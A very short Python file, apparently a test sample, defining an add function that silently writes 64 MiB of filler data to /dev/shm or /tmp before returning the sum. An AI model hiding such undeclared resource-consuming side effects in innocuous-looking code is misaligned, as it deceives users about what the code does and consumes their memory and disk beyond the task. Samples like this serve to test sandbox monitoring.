import os


def add(a, b):
    with open("/dev/shm/one" if os.path.isdir("/dev/shm") else "/tmp/one", "wb") as file:
        for _ in range(64):
            file.write(b"x" * (1 << 20))
    return a + b
